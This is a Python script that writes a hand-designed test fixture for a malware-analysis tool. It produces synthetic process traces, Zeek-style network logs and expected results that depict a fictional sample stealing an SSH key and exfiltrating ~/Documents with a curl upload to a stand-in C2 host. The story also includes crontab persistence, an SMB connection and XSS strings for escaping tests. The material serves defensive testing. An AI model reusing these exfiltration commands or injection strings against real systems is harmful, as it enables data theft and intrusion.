#!/usr/bin/env python3
"""Writes the hand-designed fixture case tests/data/report/case-l8 (run from anywhere).

A level-8 story, on the schemas of docs/process-events.md (tracer) and docs/net-logs.md
(Zeek-style logs): the sample starts at T0, reads an SSH key on its own (automatic), resolves
and reaches its C2 c2.bos-demo.example (203.0.113.10:443). C2 session 1 (T0+10 s .. T0+30 s,
server sent bytes) is followed by discovery commands; at T0+90 the sample runs `ps` on its
own timer (no C2 data for 60 s: automatic). C2 session 2 (T0+300 .. T0+360) is followed by
collection, archive, HTTP upload, crontab persistence and an SMB connection to 10.20.0.5.
Hostile strings (a <script> tag, quotes, invalid UTF-8 written as JSON escapes of bytes the
writer would b64) sit in a command line and a file name, for the escaping tests.
Every value below was chosen by hand; expected results in the tests are derived from this
story, not from running bos.
"""
import json, os, sys

T0 = 1795000000 * 10**9          # 2026-11-18T11:06:40Z
S = 10**9
out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "case-l8")
os.makedirs(out, exist_ok=True)

def ts(ns):
    import datetime
    d = datetime.datetime.fromtimestamp(ns // S, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + ".%09dZ" % (ns % S)

ev = []
def e(t, event, pid, key, parent, **kw):
    rec = {"id": len(ev) + 1, "ts": ts(T0 + t), "ts_ns": T0 + t, "event": event,
           "pid": pid, "tid": pid, "key": key, "ppid": 0, "parent_key": parent,
           "uid": 1000, "euid": 1000}
    rec.update(kw)
    ev.append(rec)

def exec_(t, pid, parent, image, argv):
    key = "%d.%d" % (pid, 1000 + pid)
    if parent:
        e(t - S // 100, "process.fork", int(parent.split(".")[0]), parent, None,
          ChildProcessId=pid, child_key=key)
    e(t, "process.exec", pid, key, parent, Image=image, argv=argv,
      CommandLine=" ".join(argv), result="ok", syscall="execve")
    return key

def fopen(t, key, path, flags="O_RDONLY|O_CLOEXEC"):
    pid = int(key.split(".")[0])
    e(t, "file.open", pid, key, None, TargetFilename=path, flags=flags, fd=3,
      ResolvedPath=path, result="ok", syscall="openat")

def fclose(t, key, path, rd=0, wr=0):
    pid = int(key.split(".")[0])
    e(t, "file.close", pid, key, None, fd=3, reason="close", TargetFilename=path,
      open_id=0, bytes_read=rd, bytes_written=wr)

def connect(t, key, ip, port, fd=5, result="connected"):
    pid = int(key.split(".")[0])
    e(t, "net.connect", pid, key, None, fd=fd, family="inet", proto="tcp", Initiated=True,
      SourceIp="10.20.0.2", SourcePort=40000 + fd, DestinationIp=ip, DestinationPort=port,
      result=result, syscall="connect")

def nclose(t, key, fd, rd, wr):
    pid = int(key.split(".")[0])
    e(t, "net.close", pid, key, None, fd=fd, reason="close", bytes_read=rd, bytes_written=wr)

root = exec_(0, 100, None, "/home/alice/Downloads/invoice.bin", ["./invoice.bin", "--quiet"])
fopen(S // 5, root, "/etc/ld.so.cache")
fopen(S // 4, root, "/home/alice/.ssh/id_rsa")                          # automatic T1552.004
connect(1 * S, root, "10.20.0.1", 53, fd=4)                              # resolver: infra
connect(2 * S, root, "203.0.113.10", 443, fd=5)                          # C2 socket
# session 1 commands (operator): sh -c whoami / id / uname -a / cat /etc/passwd
t = 12 * S
for argv, image in ((["whoami"], "/usr/bin/whoami"), (["id"], "/usr/bin/id"),
                    (["uname", "-a"], "/usr/bin/uname"),
                    (["cat", "/etc/passwd"], "/usr/bin/cat")):
    sh = exec_(t, 200 + t // S, root, "/bin/sh", ["sh", "-c", " ".join(argv)])
    c = exec_(t + S // 10, 300 + t // S, sh, image, argv)
    if image == "/usr/bin/cat":
        fopen(t + S // 5, c, "/etc/passwd")
    fclose(t + S // 2, c, "pipe:[1]", wr=180 + len(argv) * 10)
    t += 2 * S
# a hostile command line: markup, quotes and a control character
sh = exec_(21 * S, 221, root, "/bin/sh",
           ["sh", "-c", "echo '<script>alert(\"x\")</script>' & \u001b[31m"])
# bytes that are not UTF-8 in a path: the tracer writes them as {"b64": ...}
import base64
raw = b"/tmp/.x\xff\xfe"
b64 = {"b64": base64.b64encode(raw).decode()}
e(22 * S, "process.exec", 222, "222.1222", root, Image=b64, argv=[b64], CommandLine=b64,
  result="ok", syscall="execve")
# automatic: the sample's own timer at T0+90 (no C2 data within 30 s)
exec_(90 * S, 290, root, "/bin/ps", ["ps", "-ef"])
# session 2 (operator): collection, archive, upload, persistence, lateral movement
t = 305 * S
ls = exec_(t, 405, root, "/bin/ls", ["ls", "-la", "/home/alice/Documents"])
fclose(t + S // 2, ls, "pipe:[2]", wr=742)
tar = exec_(310 * S, 410, root, "/bin/tar",
            ["tar", "czf", "/tmp/.d.tgz", "/home/alice/Documents"])
fopen(310 * S + S // 10, tar, "/home/alice/Documents/budget-2026.xlsx")
fopen(310 * S + S // 5, tar, "/home/alice/Documents/<img src=x onerror=alert(1)>.docx")
fopen(310 * S + S // 4, tar, "/tmp/.d.tgz", flags="O_WRONLY|O_CREAT|O_TRUNC")
fclose(311 * S, tar, "/tmp/.d.tgz", wr=48213)
curl = exec_(315 * S, 415, root, "/usr/bin/curl",
             ["curl", "-s", "-F", "f=@/tmp/.d.tgz", "http://c2.bos-demo.example/up"])
connect(315 * S + S // 10, curl, "203.0.113.10", 80, fd=3)
nclose(316 * S, curl, 3, 120, 48400)
cron = exec_(320 * S, 420, root, "/usr/bin/crontab", ["crontab", "/tmp/.c"])
fopen(320 * S + S // 10, cron, "/var/spool/cron/crontabs/alice", flags="O_WRONLY|O_CREAT|O_TRUNC")
smb = exec_(330 * S, 430, root, "/usr/bin/smbclient", ["smbclient", "-N", "//10.20.0.5/share"])
connect(330 * S + S // 10, smb, "10.20.0.5", 445, fd=3)
nclose(361 * S, root, 5, 9120, 50310)
e(362 * S, "process.exit", 100, root, None, exit_code=0)
e(363 * S, "trace.summary", 1, "1.1", None, events=len(ev) + 1, lost=0, truncated=0)

with open(os.path.join(out, "process.jsonl"), "w") as f:
    for r in ev:
        f.write(json.dumps(r, separators=(",", ":")) + "\n")
    f.write("{this line is not json\n")            # counted as bad, never fatal

def zeek(path, recs):
    with open(os.path.join(out, path), "w") as f:
        for r in recs:
            f.write(json.dumps(r, separators=(",", ":")) + "\n")

def ep(ns):
    return round(ns / S, 6)

zeek("dns.jsonl", [
    {"ts": ep(T0 + 1 * S), "uid": "Dns1", "id.orig_h": "10.20.0.2", "id.orig_p": 40004,
     "id.resp_h": "10.20.0.1", "id.resp_p": 53, "proto": "udp", "query": "c2.bos-demo.example",
     "qtype_name": "A", "rcode": 0, "rcode_name": "NOERROR", "answers": ["203.0.113.10"]},
    {"ts": ep(T0 + 1 * S + 5000), "uid": "Dns2", "id.orig_h": "10.20.0.2", "id.orig_p": 40006,
     "id.resp_h": "10.20.0.1", "id.resp_p": 53, "proto": "udp", "query": "update.bos-demo.example",
     "qtype_name": "A", "rcode": 3, "rcode_name": "NXDOMAIN", "answers": []},
])
zeek("conn.jsonl", [
    # C2 session 1: bytes from the server during [10 s, 30 s]
    {"ts": ep(T0 + 10 * S), "uid": "CSess1", "id.orig_h": "10.20.0.2", "id.orig_p": 40005,
     "id.resp_h": "203.0.113.10", "id.resp_p": 443, "proto": "tcp", "duration": 20.0,
     "orig_bytes": 2100, "resp_bytes": 3400, "conn_state": "SF", "history": "ShADadFf"},
    # C2 session 2: [300 s, 360 s]
    {"ts": ep(T0 + 300 * S), "uid": "CSess2", "id.orig_h": "10.20.0.2", "id.orig_p": 40007,
     "id.resp_h": "203.0.113.10", "id.resp_p": 443, "proto": "tcp", "duration": 60.0,
     "orig_bytes": 1900, "resp_bytes": 5720, "conn_state": "SF", "history": "ShADadFf"},
    {"ts": ep(T0 + 315 * S + S // 10), "uid": "CUp", "id.orig_h": "10.20.0.2",
     "id.orig_p": 40100, "id.resp_h": "203.0.113.10", "id.resp_p": 80, "proto": "tcp",
     "duration": 0.9, "orig_bytes": 48400, "resp_bytes": 120, "conn_state": "SF"},
    {"ts": ep(T0 + 330 * S + S // 10), "uid": "CSmb", "id.orig_h": "10.20.0.2",
     "id.orig_p": 40200, "id.resp_h": "10.20.0.5", "id.resp_p": 445, "proto": "tcp",
     "duration": 0.01, "orig_bytes": 0, "resp_bytes": 0, "conn_state": "REJ"},
])
zeek("http.jsonl", [
    {"ts": ep(T0 + 315 * S + S // 5), "uid": "CUp", "id.orig_h": "10.20.0.2",
     "id.resp_h": "203.0.113.10", "id.resp_p": 80, "method": "POST",
     "host": "c2.bos-demo.example", "uri": "/up", "user_agent": "curl/7.88.1",
     "request_body_len": 48213, "response_body_len": 2, "status_code": 200},
])
zeek("tls.jsonl", [
    {"ts": ep(T0 + 10 * S + S // 100), "uid": "CSess1", "id.resp_h": "203.0.113.10",
     "id.resp_p": 443, "version": "TLSv12", "server_name": "c2.bos-demo.example",
     "established": True},
    {"ts": ep(T0 + 300 * S + S // 100), "uid": "CSess2", "id.resp_h": "203.0.113.10",
     "id.resp_p": 443, "version": "TLSv12", "server_name": "c2.bos-demo.example",
     "established": True},
])

# analysis.json as src/analyze/render.c writes it (format bos-analysis 1)
analysis = {
    "format": "bos-analysis", "format_version": 1, "tool_version": "0.1.0",
    "input_kind": "case", "case_id": "case-20261118T110640Z-fx01", "sample": "invoice.bin",
    "level": 8, "level_name": "operations continuing", "reason": "bursts",
    "decided_by": "c2.bos-demo.example",
    "first_reached": {"3": ts(T0 + 1 * S), "4": ts(T0 + 10 * S), "5": ts(T0 + 10 * S),
                      "6": ts(T0 + 10 * S), "7": ts(T0 + 12 * S), "8": ts(T0 + 305 * S)},
    "c2": [
        {"candidate": "c2.bos-demo.example", "name": "c2.bos-demo.example",
         "addresses": ["203.0.113.10"], "level": 8, "level_name": "operations continuing",
         "reason": "bursts", "first_seen": ts(T0 + 1 * S), "operations": 11,
         "evidence_kinds": ["dns", "flow", "tls"], "evidence_total": 3,
         "evidence": [
             {"kind": "flow", "level": 6, "reason": "tls_data", "ts": ts(T0 + 10 * S),
              "uid": "CSess1", "proto": "tcp", "conn_state": "SF"},
             {"kind": "dns", "level": 3, "reason": "resolved", "ts": ts(T0 + 1 * S),
              "uid": "Dns1", "query": "c2.bos-demo.example", "rcode": 0}]},
        {"candidate": "update.bos-demo.example", "name": "update.bos-demo.example",
         "addresses": [], "level": 3, "level_name": "C2 name did not resolve",
         "reason": "nxdomain", "first_seen": ts(T0 + 1 * S), "operations": 0,
         "evidence_kinds": ["dns"], "evidence_total": 1,
         "evidence": [{"kind": "dns", "level": 3, "reason": "nxdomain",
                       "ts": ts(T0 + 1 * S), "uid": "Dns2",
                       "query": "update.bos-demo.example", "rcode": 3}]},
    ],
    "operations": {"caused": 11, "automatic": 2, "bursts": 2, "sessions": 2, "list": [],
                   "total": 13},
    "caveats": ["sample wrote <b>bold</b> \"quoted\" text to a log name"],
    "settings": {"window_ms": 30000, "gap_ms": 120000, "scan_min_targets": 16,
                 "upload_min_bytes": 1024},
    "inputs": [],
}
with open(os.path.join(out, "analysis.json"), "w") as f:
    json.dump(analysis, f, indent=2)
    f.write("\n")

sample = {"type": "bundle", "id": "bundle--6f1a1f5e-35a4-4bd4-9b51-5f0b0b7f1c11", "objects": [
    {"type": "file", "spec_version": "2.1",
     "id": "file--9a3b1a0e-0b2f-5d0e-8d4e-2f1f2f6d1c10",
     "hashes": {"MD5": "0f343b0931126a20f133d67c2b018a3b",
                "SHA-1": "8d5e957f297893487bd98fa830fa6413a7d2e9b4",
                "SHA-256": "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"},
     "size": 18432, "name": "invoice.bin", "mime_type": "application/x-executable"},
    {"type": "malware", "spec_version": "2.1",
     "id": "malware--1d6f7a44-7f5c-4c1b-9f3e-4a2b8c9d0e11",
     "created": "2026-11-18T11:06:40.000Z", "modified": "2026-11-18T11:06:40.000Z",
     "name": "invoice.bin", "is_family": False,
     "sample_refs": ["file--9a3b1a0e-0b2f-5d0e-8d4e-2f1f2f6d1c10"]},
]}
with open(os.path.join(out, "sample.stix.json"), "w") as f:
    json.dump(sample, f, separators=(",", ":"))
    f.write("\n")
print("wrote", out, len(ev), "process events")
